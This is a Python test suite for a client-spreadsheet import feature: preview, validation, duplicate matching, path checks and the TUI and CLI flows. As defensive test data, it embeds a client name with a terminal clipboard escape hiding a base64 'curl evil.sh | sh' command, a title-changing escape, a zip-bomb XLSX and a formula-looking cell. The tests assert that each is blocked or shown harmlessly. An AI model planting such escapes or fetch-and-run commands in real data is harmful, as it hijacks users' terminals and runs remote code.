"""Importing clients from a spreadsheet (``clients.import_file``): CSV and XLSX files,
previewed row by row, imported only on confirmation, all or nothing.

Real files in the test's folder, the real daemon over its socket, a real SQLite file. A bad
file or a bad row must change nothing and say which rows and why.
"""

from __future__ import annotations

import contextlib
import csv
import gc
import os
import random
import sqlite3
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from clientlink.common import protocol as p
from clientlink.common.client import RpcError
from clientlink.common.protocol import ErrorCode
from clientlink.sandbox.seed import make_abn

HEADING = ["Client name", "ABN", "Software", "Software ID", "Email", "Mobile"]
RNG = random.Random(20261202)
ABNS = [make_abn(RNG) for _ in range(12)]


def write_csv(path: Path, rows: list[list[Any]], *, heading=HEADING, delimiter=",", bom=False):
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(heading)
        writer.writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list[Any]], *, heading=HEADING) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(heading)
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def database_dump(paths) -> list[str]:
    uri = f"file:{paths.database}?mode=ro"
    with contextlib.closing(sqlite3.connect(uri, uri=True)) as db:
        return list(db.iterdump())


async def refusal(rpc, **params) -> RpcError:
    with pytest.raises(RpcError) as caught:
        await rpc.call(p.CLIENTS_IMPORT_FILE, **params)
    assert caught.value.code in (ErrorCode.INVALID_PARAMS, ErrorCode.CONFLICT)
    return caught.value


async def confirm(rpc, path: Path, preview: p.ClientsImportFileResult, **params):
    return await rpc.call(
        p.CLIENTS_IMPORT_FILE, path=str(path), confirm=True, digest=preview.digest, **params
    )


def by_row(result: p.ClientsImportFileResult) -> dict[int, p.ImportRow]:
    return {row.row: row for row in result.rows}


SPACED_ABN = f"{ABNS[1][:2]} {ABNS[1][2:5]} {ABNS[1][5:8]} {ABNS[1][8:]}"
GOOD_ROWS = [
    ["Harper Family Super Fund", ABNS[0], "Xero", "t-harper", "Trustee@Harper.example",
     "0491 570 156"],
    ["Marsh Holdings Pty Ltd", SPACED_ABN, "QBO", "9130355", "", "+61 491 570 157"],
    ["Whitlam Trust", "", "quickbooks online", "9130356", "ops@whitlam.example", ""],
]  # fmt: skip


async def test_a_good_csv_is_previewed_then_imported_in_one_go(daemon, short_tmp):
    rpc = await daemon.connect()
    path = write_csv(short_tmp / "clients.csv", GOOD_ROWS, delimiter=";", bom=True)
    before = database_dump(daemon.paths)

    preview = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path))
    assert preview.kind == "csv" and not preview.imported
    assert preview.counts == {"add": 3, "match": 0, "refuse": 0}
    assert preview.columns["software_id"] == "Software ID"
    rows = by_row(preview)
    assert sorted(rows) == [2, 3, 4]  # the spreadsheet's row numbers (the heading is 1)
    assert rows[2].provider == "xero" and rows[2].tenant_id == "t-harper"
    assert rows[2].email == "Trustee@harper.example" and rows[2].phone == "+61491570156"
    assert rows[3].abn == ABNS[1] and rows[3].provider == "quickbooks"
    assert database_dump(daemon.paths) == before, "a preview wrote something"

    done = await confirm(rpc, path, preview)
    assert done.imported and done.created == 3 and done.updated == 0
    listed = (await rpc.call(p.CLIENTS_LIST)).items
    assert {c.name for c in listed} == {r[0] for r in GOOD_ROWS}
    harper = next(c for c in listed if c.tenant_id == "t-harper")
    assert harper.status == p.ConnectionStatus.NOT_CONNECTED
    assert (harper.provider, harper.abn, harper.phone) == ("xero", ABNS[0], "+61491570156")
    audit = (await rpc.call(p.AUDIT_LIST, limit=5)).items
    imports = [entry for entry in audit if entry.action == "clients.import_file"]
    assert len(imports) == 1 and imports[0].detail["created"] == 3

    again = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path))
    assert again.counts == {"add": 0, "match": 3, "refuse": 0}, "a second import adds nothing"


async def test_a_good_xlsx_with_numbers_for_abn_and_phone_is_imported(daemon, short_tmp):
    rpc = await daemon.connect()
    heading = ["Fund name", "abn", "SOFTWARE", "Fund ID", "E-mail", "Phone"]
    rows = [
        ["Nguyen SMSF", int(ABNS[2]), "Xero", "t-nguyen", "n@nguyen.example", 491570158],
        ['=HYPERLINK("http://x")', int(ABNS[3]), "xero", 7731, None, None],
    ]
    path = write_xlsx(short_tmp / "funds.xlsx", rows, heading=heading)
    workbook = openpyxl.load_workbook(path)
    workbook.active["A3"].data_type = "s"  # typed text that looks like a formula, not one
    workbook.save(path)
    preview = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path))
    assert preview.kind == "xlsx" and preview.counts["add"] == 2, preview.rows
    first, second = preview.rows
    assert first.abn == ABNS[2] and first.phone == "+61491570158"
    assert second.name == '=HYPERLINK("http://x")' and second.tenant_id == "7731"
    done = await confirm(rpc, path, preview)
    assert done.created == 2
    names = {c.name for c in (await rpc.call(p.CLIENTS_LIST)).items}
    assert '=HYPERLINK("http://x")' in names, "a formula-looking name is kept as text"


@pytest.mark.parametrize(
    "heading,says",
    [
        (["Name", "ABN", "Software", "Notes"], "unknown columns 'Notes'"),
        (["Name", "ABN", "Email"], "missing the Software column"),
        (["ABN", "Software"], "missing the Name column"),
        (["Name", "Software", "Phone", "Mobile"], "columns given twice: 'Mobile' (also 'Phone')"),
        (["Name", "", "Software"], "column B of the heading row is blank"),
    ],
)
async def test_wrong_columns_are_refused_naming_found_and_expected(
    daemon, short_tmp, heading, says
):
    rpc = await daemon.connect()
    path = write_csv(short_tmp / "bad.csv", [["a"] * len(heading)], heading=heading)
    error = await refusal(rpc, path=str(path))
    assert says in error.message
    assert "Found: " in error.message or "found: " in error.message
    assert "Expected: " in error.message or "expected: " in error.message


async def test_each_bad_row_is_refused_with_its_reason_and_nothing_changes(daemon, short_tmp):
    rpc = await daemon.connect()
    bad_abn = ABNS[4][:-1] + str((int(ABNS[4][-1]) + 1) % 10)
    rows = [
        ["Good Fund", ABNS[5], "Xero", "t-good", "", ""],
        ["Bad ABN Fund", bad_abn, "Xero", "t-1", "", ""],
        ["Short ABN Fund", "1234", "Xero", "t-2", "", ""],
        ["Bad Email Fund", "", "Xero", "t-3", "not-an-email", ""],
        ["Bad Mobile Fund", "", "Xero", "t-4", "", "12"],
        ["Landline Fund", "", "Xero", "t-5", "", "02 9374 4000"],
        ["Unknown Software Fund", "", "Sage", "t-6", "", ""],
        ["", "", "Xero", "t-7", "", ""],
        ["No Id Fund", "", "Xero", "", "", ""],
        ["Too Long", "", "Xero", "t-8", "x" * 1200, ""],
    ]
    path = write_csv(short_tmp / "rows.csv", rows)
    before = database_dump(daemon.paths)
    preview = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path))
    assert preview.counts == {"add": 1, "match": 0, "refuse": 9}
    reasons = {row.row: row.reason or "" for row in preview.rows}
    assert preview.rows[0].verdict == "add" and reasons[2] == ""
    assert "fails the ATO's checksum" in reasons[3]
    assert "an ABN is 11 digits" in reasons[4]
    assert "not a valid email address" in reasons[5]
    assert "not a phone number" in reasons[6] or "not a valid phone number" in reasons[6]
    assert "is not a mobile number" in reasons[7]
    assert "'Sage' is not accounting software" in reasons[8] and "Xero (sandbox)" in reasons[8]
    assert "the Name cell is empty" in reasons[9]
    assert "the Software ID is empty" in reasons[10]
    assert "the Email cell is 1,200 characters long" in reasons[11]

    refused = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path), verdict="refuse", limit=3)
    assert refused.total == 9 and [r.row for r in refused.rows] == [3, 4, 5]
    page = await rpc.call(
        p.CLIENTS_IMPORT_FILE, path=str(path), verdict="refuse", offset=3, limit=3
    )
    assert [r.row for r in page.rows] == [6, 7, 8]

    error = await refusal(rpc, path=str(path), confirm=True, digest=preview.digest)
    assert error.code == ErrorCode.CONFLICT
    assert "9 rows are refused (row 3: " in error.message and "skip_refused" in error.message
    assert database_dump(daemon.paths) == before, "a refused import wrote something"

    done = await rpc.call(
        p.CLIENTS_IMPORT_FILE,
        path=str(path),
        confirm=True,
        digest=preview.digest,
        skip_refused=True,
    )
    assert done.created == 1
    assert [c.name for c in (await rpc.call(p.CLIENTS_LIST)).items] == ["Good Fund"]


async def test_duplicates_in_the_file_refuse_the_later_row_naming_the_first(daemon, short_tmp):
    rpc = await daemon.connect()
    rows = [
        ["First", ABNS[6], "Xero", "t-dup", "", ""],
        ["Other", ABNS[7], "Xero", "t-other", "", ""],
        ["Same id", "", "xero", "t-dup", "", ""],
        ["Same ABN", ABNS[7], "QuickBooks", "12345", "", ""],
        ["Same id elsewhere", "", "QuickBooks", "t-dup", "", ""],
    ]
    path = write_csv(short_tmp / "dups.csv", rows)
    rows_by_number = by_row(await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path)))
    assert rows_by_number[4].verdict == "refuse"
    assert "repeats row 2 (the same Xero (sandbox) id t-dup)" in (rows_by_number[4].reason or "")
    assert rows_by_number[5].verdict == "refuse"
    assert f"repeats row 3 (the same ABN {ABNS[7]})" in (rows_by_number[5].reason or "")
    # The same id in another software is another business.
    assert rows_by_number[6].verdict == "add"


async def test_existing_clients_are_matched_and_only_their_blanks_filled(practice, short_tmp):
    rpc = await practice.connect()
    items = (await rpc.call(p.CLIENTS_LIST, limit=50)).items
    target, by_abn = [c for c in items if c.provider == "xero" and c.tenant_id and c.abn][:2]
    # One without an email, the other with its own email and no mobile.
    await rpc.call(p.CLIENTS_UPDATE, client_id=target.id, email="")
    await rpc.call(p.CLIENTS_UPDATE, client_id=by_abn.id, email="kept@practice.example", phone="")
    rows = [
        [target.name, target.abn, "Xero", target.tenant_id, "new@fund.example", ""],
        ["Renamed in the sheet", by_abn.abn, "Xero", "", "other@fund.example", "0491 570 159"],
        ["The same client again", "", "Xero", by_abn.tenant_id, "", ""],
    ]
    path = write_csv(short_tmp / "existing.csv", rows)
    preview = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path))
    first, second, third = preview.rows
    assert third.verdict == "refuse"
    assert f"row 3 matches the same client (#{by_abn.id}) already" in (third.reason or "")
    assert (first.verdict, first.client_id, first.fills) == ("match", target.id, ["email"])
    assert f"matches client #{target.id}" in (first.reason or "")
    assert "by its Xero (sandbox) id" in (first.reason or "")
    assert (second.verdict, second.client_id, second.fills) == ("match", by_abn.id, ["phone"])
    assert "by its ABN" in (second.reason or "")
    assert "kept its email kept@practice.example (the file says other@fund.example)" in (
        second.reason or ""
    )
    assert "kept its name (the file says 'Renamed in the sheet')" in (second.reason or "")

    done = await confirm(rpc, path, preview, skip_refused=True)
    assert (done.created, done.updated) == (0, 2)
    after_target = await rpc.call(p.CLIENTS_GET, client_id=target.id)
    assert after_target.email == "new@fund.example" and after_target.status == target.status
    after_abn = await rpc.call(p.CLIENTS_GET, client_id=by_abn.id)
    assert (after_abn.email, after_abn.phone) == ("kept@practice.example", "+61491570159")
    assert after_abn.name == by_abn.name


async def test_a_file_changed_since_the_preview_is_refused_and_nothing_changes(daemon, short_tmp):
    rpc = await daemon.connect()
    path = write_csv(short_tmp / "clients.csv", GOOD_ROWS)
    preview = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path))
    with path.open("a", encoding="utf-8") as handle:
        handle.write("Sneaked In,,Xero,t-sneak,,\n")
    before = database_dump(daemon.paths)
    error = await refusal(rpc, path=str(path), confirm=True, digest=preview.digest)
    assert error.code == ErrorCode.CONFLICT and "changed since it was previewed" in error.message
    error = await refusal(rpc, path=str(path), confirm=True)
    assert "preview the file first" in error.message
    assert database_dump(daemon.paths) == before
    assert (await rpc.call(p.CLIENTS_LIST)).total == 0


async def test_paths_that_are_not_a_readable_file_get_a_sentence(daemon, short_tmp):
    rpc = await daemon.connect()
    fifo = short_tmp / "pipe.csv"
    os.mkfifo(fifo)
    real = write_csv(short_tmp / "real.csv", GOOD_ROWS)
    link = short_tmp / "link.csv"
    link.symlink_to(real)
    cases = {
        str(short_tmp): "names a folder" if False else "is a folder",
        str(short_tmp / "missing.csv"): "does not exist",
        str(fifo): "not a regular file",
        str(link): "is a symbolic link",
        "relative/clients.csv": "give an absolute path",
        str(daemon.paths.config_file): "inside clientlink's own folder",
        str(short_tmp / "nofolder" / "x.csv"): "does not exist",
        "": "give the path of the CSV or XLSX file",
    }
    for path_text, says in cases.items():
        error = await refusal(rpc, path=path_text)
        assert says in error.message, (path_text, error.message)
    assert (await rpc.call(p.DAEMON_STATUS)).version


async def test_files_that_are_not_a_client_list_are_refused_plainly(daemon, short_tmp):
    rpc = await daemon.connect()
    latin = short_tmp / "latin1.csv"
    latin.write_bytes("Name,Software\nCaf\xe9 Fund,Xero\n".encode("latin-1"))
    assert "not UTF-8 text" in (await refusal(rpc, path=str(latin))).message
    one_line = short_tmp / "oneline.csv"
    one_line.write_bytes(b"Name,Software\n" + b"a," * 300_000)
    assert "longer than 64 KiB" in (await refusal(rpc, path=str(one_line))).message
    empty = short_tmp / "empty.csv"
    empty.write_bytes(b"\n\n")
    assert "the file is empty" in (await refusal(rpc, path=str(empty))).message
    bomb = short_tmp / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(260):
                part.write(block)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    assert "expands to 260 MiB" in (await refusal(rpc, path=str(bomb))).message
    strings = short_tmp / "strings.xlsx"
    with zipfile.ZipFile(strings, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            for _ in range(40):
                part.write(block)
    message = (await refusal(rpc, path=str(strings))).message
    assert "xl/sharedStrings.xml expands to 40 MiB (at most 32 MiB)" in message
    broken = short_tmp / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    assert "not a readable XLSX" in (await refusal(rpc, path=str(broken))).message


async def test_a_50000_row_file_is_streamed_in_bounded_memory(daemon, short_tmp):
    rpc = await daemon.connect()
    count = 50_000
    path = short_tmp / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADING)
        for n in range(count):
            writer.writerow(
                [
                    f"Fund number {n} with a longish trustee name Pty Ltd",
                    "",
                    "Xero" if n % 2 else "QuickBooks Online",
                    f"tenant-{n:08d}-{'x' * 24}",
                    f"trustee{n}@fund{n}.example.com.au",
                    "",
                ]
            )
    size = path.stat().st_size
    gc.collect()
    before = memory_kib("VmRSS")
    Path("/proc/self/clear_refs").write_text("5")  # the peak (VmHWM) starts again from here
    started = time.monotonic()
    preview = await rpc.call(p.CLIENTS_IMPORT_FILE, path=str(path), limit=10)
    assert preview.counts == {"add": count, "match": 0, "refuse": 0}
    assert [row.row for row in preview.rows] == list(range(2, 12))
    done = await rpc.call(
        p.CLIENTS_IMPORT_FILE, path=str(path), confirm=True, digest=preview.digest, limit=1
    )
    elapsed = time.monotonic() - started
    growth = (memory_kib("VmHWM") - before) / 1024
    assert done.created == count
    assert (await rpc.call(p.CLIENTS_LIST, limit=1)).total == count
    print(f"\n50,000 rows ({size / 1e6:.1f} MB): {elapsed:.1f} s, peak RSS +{growth:.1f} MiB")
    # Reading this file whole (its text, then a list of rows) takes about 35 MiB on its own;
    # streamed, the daemon's peak grows by a few MiB (the SQLite page caches, one chunk).
    assert growth < 20, f"the daemon's peak memory grew by {growth:.1f} MiB"


def memory_kib(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/self/status")


def screen_text(app) -> str:
    """Every line of the screen as drawn."""
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


async def test_the_import_screen_previews_filters_and_imports_at_80x24(practice, short_tmp):
    from textual.widgets import Input

    from clientlink.tui.app import ClientlinkApp
    from clientlink.tui.screens.confirm import ConfirmScreen
    from clientlink.tui.screens.import_clients import ImportClientsScreen
    from clientlink.tui.screens.manage_clients import ManageClientsScreen
    from tests.test_tui_app import wait_until

    hostile = "Clip \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 Pty \x1b[2J Ltd"
    bad_abn = ABNS[8][:-1] + str((int(ABNS[8][-1]) + 1) % 10)
    rows = [
        ["Harbour Fund", ABNS[9], "Xero", "t-harbour", "", "0491 570 160"],
        [hostile, ABNS[10], "Xero", "t-hostile", "", ""],
        ["Typo Fund", bad_abn, "Xero", "t-typo", "", ""],
        ["Quay Trust", "", "QuickBooks", "55501", "", ""],
    ]
    path = write_csv(short_tmp / "funds.csv", rows)
    rpc = await practice.connect()
    total_before = (await rpc.call(p.CLIENTS_LIST, limit=1)).total

    app = ClientlinkApp(practice.socket_path, open_browser=False)
    async with app.run_test(size=(80, 24)) as pilot:
        manage = app.screen
        assert isinstance(manage, ManageClientsScreen)
        await wait_until(pilot, lambda: manage.clients, "the clients")
        titles = [command.title for command in manage.palette_commands()]
        assert "Clients: import from a spreadsheet" in titles
        await pilot.press("i")
        await wait_until(pilot, lambda: isinstance(app.screen, ImportClientsScreen), "the screen")
        screen = app.screen
        path_input = screen.query_one("#import-path", Input)
        assert path_input.has_focus
        path_input.value = str(path)
        await pilot.press("enter")
        await wait_until(pilot, lambda: screen.preview is not None, "the preview")
        await pilot.pause()
        text = screen_text(app)
        assert "4 rows: 3 to add, 0 matching clients, 1 refused" in text, text
        assert "Import 3 clients (skip 1 refused row)" in text, text
        assert "Harbour Fund" in text and "REFUSED" in text
        assert "\x1b" not in text and "Clip ␛]52;c;" in text, "the escape reached the screen"

        await pilot.press("tab", "f")
        await wait_until(pilot, lambda: screen.refused_only and len(screen.rows) == 1, "refused")
        await pilot.pause()
        text = screen_text(app)
        assert "Typo Fund" in text and "Harbour Fund" not in text
        assert "fails the ATO's checksum" in text, text

        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the question")
        question = screen_text(app)
        assert "Import 3 clients (skip 1 refused row) from" in question, question
        await pilot.press("y")
        await wait_until(pilot, lambda: app.screen is manage, "back to Manage Clients")
        toasts = [notification.message for notification in app._notifications]
        assert any("3 clients added" in t and "1 refused row skipped" in t for t in toasts), toasts

    assert (await rpc.call(p.CLIENTS_LIST, limit=1)).total == total_before + 3
    stored = (await rpc.call(p.CLIENTS_LIST, filter={"text": "Clip"})).items
    assert [c.name for c in stored] == [hostile], "the name is stored as it was written"


async def test_the_cli_previews_and_imports_only_when_told(daemon, short_tmp):
    from tests.helpers import clientlink_cli

    rpc = await daemon.connect()
    home = str(daemon.paths.config_dir.parent)
    rows = [
        *GOOD_ROWS,
        ["Evil \x1b]0;owned\x07 Fund", "1234", "Xero", "t-evil", "", ""],
    ]
    path = write_csv(short_tmp / "clients.csv", rows)

    code, out, err = await clientlink_cli("--home", home, "clients", "import", str(path))
    assert code == 0, err
    text = out.decode()
    assert "4 rows: 3 to add, 0 matching clients, 1 refused" in text
    assert "row 5: Evil ␛]0;owned␇ Fund: '1234': an ABN is 11 digits" in text
    assert b"\x1b" not in out and "run again with --yes" in text
    assert (await rpc.call(p.CLIENTS_LIST)).total == 0

    code, out, err = await clientlink_cli("--home", home, "clients", "import", str(path), "--yes")
    assert code == 2 and "--skip-refused" in err.decode()
    assert (await rpc.call(p.CLIENTS_LIST)).total == 0

    code, out, err = await clientlink_cli(
        "--home", home, "clients", "import", str(path), "--yes", "--skip-refused"
    )
    assert code == 0, err
    assert "Imported: 3 clients added, 0 updated, 1 refused row skipped." in out.decode()
    assert (await rpc.call(p.CLIENTS_LIST)).total == 3

    code, out, err = await clientlink_cli(
        "--home", home, "clients", "import", str(short_tmp / "nope.csv")
    )
    assert code == 2 and "does not exist" in err.decode() and b"Traceback" not in err


def test_in_firm_mode_the_caller_must_be_able_to_read_the_file_itself(short_tmp):
    from clientlink.daemon.export import caller_may_read
    from clientlink.daemon.rpc_errors import RpcFailure

    other = 65534 if os.geteuid() != 65534 else 65533  # not the daemon's own user
    path = write_csv(short_tmp / "private.csv", GOOD_ROWS)
    check = caller_may_read(other)
    path.chmod(0o600)
    with pytest.raises(RpcFailure) as caught:
        check(path.stat(), path)
    assert "you cannot read" in caught.value.message
    path.chmod(0o644)
    check(path.stat(), path)
    short_tmp.chmod(0o700)
    with pytest.raises(RpcFailure) as caught:
        check(short_tmp.stat(), short_tmp, search=True)
    assert "you cannot open the folder" in caught.value.message


def test_software_is_known_by_the_names_people_write():
    from dataclasses import replace

    from clientlink.daemon.client_import import SoftwareNames
    from clientlink.daemon.providers.definitions import QUICKBOOKS, XERO

    names = SoftwareNames(
        {
            "xero": XERO,
            "qbo": QUICKBOOKS,
            # The kinds other branches add: recognised once a provider of that kind exists.
            "sf360": replace(XERO, kind="bgl", display_name="BGL Simple Fund 360"),
            "class": replace(XERO, kind="class", display_name="Class Super"),
            "myob": replace(XERO, kind="myob", display_name="MYOB Business"),
        }
    )
    written = {
        "Xero": "xero",
        "QuickBooks Online": "qbo",
        "QBO": "qbo",
        "quickbooks": "qbo",
        "BGL 360": "sf360",
        "Simple Fund 360": "sf360",
        "bgl": "sf360",
        "Class": "class",
        "CLASS SUPER": "class",
        "MYOB": "myob",
        "myob business": "myob",
    }
    for text, provider in written.items():
        assert names.resolve(text) == (provider, None), text
    assert (
        names.resolve("Sage")[0] is None and "not accounting software" in names.resolve("Sage")[1]
    )
    two_xeros = SoftwareNames({"xero": XERO, "xero2": replace(XERO, display_name="Xero 2")})
    assert "names 2 configured providers (xero, xero2)" in (two_xeros.resolve("Xero")[1] or "")
